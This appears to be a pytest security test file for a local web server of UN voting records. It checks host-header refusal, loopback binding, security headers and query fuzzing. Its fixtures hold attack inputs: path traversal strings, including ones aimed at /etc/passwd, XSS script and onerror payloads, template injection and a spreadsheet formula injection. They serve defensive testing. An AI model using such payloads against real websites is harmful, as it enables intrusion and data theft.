"""What the server refuses, what every answer carries, and data that tries to be more than text."""

import json
import random
import socket
import string
from urllib.parse import quote

import httpx
import pytest
from lxml import html

from multipolar.basics.errors import AskedWronglyError
from multipolar.record import Record
from multipolar.record.usertable import add
from multipolar.server.run import HOST, bound
from tests.server._running import running

# A client must encode these itself; everything else is sent as it is.
_SENT = "".join(set(string.printable) - set(string.whitespace) - {"#"})
_SCRIPT = "<script>alert(1)</script>"
_FORMULA = '=HYPERLINK("http://example.org/"&A1)'
_EVIL = (
    f"""id,title,day
A/RES/99/1,"{_SCRIPT}",2024-01-02
A/RES/99/2,"{_FORMULA.replace('"', '""')}",2024-01-03
"A/RES/99/3#../../etc/passwd","""
    + """"<img src=x onerror=alert(1)> `code` {{ 7*7 }}",2024-01-04
"""
)
_EVIL_YML = """
name: evil
source: "<b>Nobody</b>"
licence: none
table: rollcall
columns:
  id: id
  title: title
  date: day
  body: {value: GA}
  part: {value: whole}
  modality: {value: recorded}
"""


@pytest.fixture(scope="module")
def evil(tmp_path_factory):
    """A record with titles that are script, formula and template."""
    folder = tmp_path_factory.mktemp("evil")
    (folder / "own.csv").write_text(_EVIL)
    (folder / "own.yml").write_text(_EVIL_YML)
    add(folder / "record", folder / "own.csv", folder / "own.yml")
    with running(Record.open(folder / "record")) as at, httpx.Client(base_url=at, timeout=60) as asking:
        yield asking


@pytest.mark.parametrize(
    "host", ["evil.example", "127.0.0.1.evil.example", "localhost.evil", "0.0.0.0", "", "[::2]:80"]
)
def test_another_host_is_refused(client, host):
    answer = client.get("/actors/CHL", headers={"Host": host})
    assert answer.status_code in (400, 421)
    assert "Chile" not in answer.text


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost:99", "LOCALHOST", "[::1]:8765"])
def test_this_machine_s_names_are_answered(client, host):
    assert client.get("/about", headers={"Host": host}).status_code == 200


def test_only_the_loopback_address_is_listened_at():
    with bound(0) as listening:
        assert listening.getsockname()[0] == HOST == "127.0.0.1"
        with pytest.raises(AskedWronglyError, match="cannot be listened at"):
            bound(listening.getsockname()[1])
    with pytest.raises(AskedWronglyError, match="no port"):
        bound(70000)


def test_pages_elsewhere_may_link_and_do_no_more(client):
    assert (
        client.get(
            "/about", headers={"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate"}
        ).status_code
        == 200
    )
    assert (
        client.get(
            "/api/record/status", headers={"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "cors"}
        ).status_code
        == 403
    )
    assert client.post("/about", headers={"Origin": "http://evil.example"}).status_code == 403


@pytest.mark.parametrize(
    "path",
    ["/", "/actors/CHL", "/nowhere", "/api/record/status", "/static/explorer.js", "/actors/CHL/votes.csv"],
)
def test_every_answer_carries_the_headers_and_no_cookie(client, path):
    headers = client.get(path).headers
    assert "'unsafe" not in headers["content-security-policy"]
    assert headers["content-security-policy"].startswith("default-src 'none'")
    assert "http" not in headers["content-security-policy"]
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "no-referrer"
    assert headers["cross-origin-resource-policy"] == "same-origin"
    assert "set-cookie" not in headers
    assert "access-control-allow-origin" not in headers


def test_a_long_address_is_refused(client):
    assert client.get("/search?q=" + "x" * 9000).status_code == 414


@pytest.mark.parametrize(
    "path",
    [
        "/static/../app.py",
        "/static/%2e%2e/app.py",
        "/static/..%2fapp.py",
        "/static/%2e%2e%2f%2e%2e%2fheld.py",
    ],
)
def test_no_path_leads_out_of_the_folder_of_static_files(address, path):
    with socket.create_connection((HOST, int(address.rpartition(":")[2]))) as raw:
        raw.sendall(f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n".encode())
        answer = b"".join(iter(lambda: raw.recv(65536), b""))
    assert answer.startswith(b"HTTP/1.1 404")


def _odd(draw: random.Random) -> str:
    signs = string.printable + "éЖ漢\u202e\x00\ufeff%%&&==<>'\"`;/\\#"
    names = ("q", "sort", "page", "size", "on", "since", "until", "words", "group", "choice", "role",
    "definition", "year",
             "direction", "text", "state", "limit", "resolution", "subject", "x")  # fmt: skip
    parts = []
    for _ in range(draw.randint(0, 4)):
        value = "".join(draw.choice(signs) for _ in range(draw.randint(0, 25)))
        shape = draw.random()
        value = (
            value
            if shape < 0.6
            else draw.choice(["-1", "1e9", "0", "999999999999", "NaN", "2020-13-45", "0000", "[]", "null"])
        )
        parts.append(f"{draw.choice(names)}={value if shape < 0.3 else httpx.QueryParams({'v': value})['v']}")
    return quote("&".join(parts), safe=_SENT)


@pytest.mark.parametrize("number", [60, pytest.param(1000, marks=pytest.mark.slow)])
def test_odd_query_strings_give_no_failure_of_the_server(client, number):
    paths = (
        "/", "/search", "/actors", "/actors/CHL/votes", "/actors/CHL/agreement", "/actors/RUS/trade",
        "/organisations/BRICS/members", "/organisations/BRICS/cohesion", "/resolutions",
        "/resolutions/A/RES/68/262/votes",
        "/resolutions/A/RES/68/262/votes.csv", "/agreements.json", "/pairs", "/sources", "/api/votes/find",
        "/api/votes/record", "/api/search", "/api/trade/partners", "/api/actors/members", "/api/votes/alike",
    )  # fmt: skip
    draw = random.Random(20261122)
    statuses = set()
    for turn in range(number):
        path = paths[turn % len(paths)]
        answer = client.get(f"{path}?{_odd(draw)}")
        assert answer.status_code < 500, (path, answer.url)
        assert "Traceback" not in answer.text
        statuses.add(answer.status_code)
    assert {200, 400} <= statuses


def test_script_in_a_title_is_text(evil):
    for path in (
        "/resolutions/A/RES/99/1",
        "/resolutions?words=alert",
        "/search?q=alert",
        "/resolutions/A/RES/99/1/votes",
    ):
        answer = evil.get(path)
        assert answer.status_code == 200
        assert _SCRIPT not in answer.text
        assert [node for node in html.fromstring(answer.text).xpath("//script") if not node.get("src")] == []
    shown = html.fromstring(evil.get("/resolutions/A/RES/99/1").text).xpath("string(//h1)")
    assert shown == _SCRIPT


def test_script_in_a_question_is_text(client):
    for path in ("/search", "/pairs", "/actors"):
        answer = client.get(path, params={"q": _SCRIPT, "a": _SCRIPT, "on": ""})
        assert _SCRIPT not in answer.text
    assert _SCRIPT not in client.get(f"/actors/{_SCRIPT}").text


def test_markup_and_templates_in_a_title_stay_as_they_are(evil):
    title = html.fromstring(evil.get("/resolutions/A/RES/99/3%23..%2F..%2Fetc%2Fpasswd").text).xpath(
        "string(//h1)"
    )
    assert title == "<img src=x onerror=alert(1)> `code` {{ 7*7 }}"


def test_a_formula_in_a_title_is_no_formula_in_the_file(evil):
    text = evil.get("/resolutions.csv?q=HYPERLINK").text
    assert "'=HYPERLINK" in text
    assert ",=HYPERLINK" not in text
    assert ',"=HYPERLINK' not in text


def test_a_path_in_an_id_is_none_in_a_file_name(evil):
    answer = evil.get("/resolutions/A/RES/99/3%23..%2F..%2Fetc%2Fpasswd/votes.csv")
    assert answer.status_code == 200
    assert answer.headers["content-disposition"] == 'attachment; filename="A-RES-99-3-etc-passwd-votes.csv"'


def test_the_source_of_a_row_of_one_s_own_is_beside_it(evil):
    page = html.fromstring(evil.get("/resolutions/A/RES/99/1").text)
    assert "/sources/evil" in page.xpath("//main//a/@href")
    described = evil.get("/sources/evil")
    assert "<b>Nobody</b>" not in described.text
    sources = json.loads(evil.get("/api/votes/find?words=alert").text)["sources"]
    assert [one["source"] for one in sources] == ["evil"]
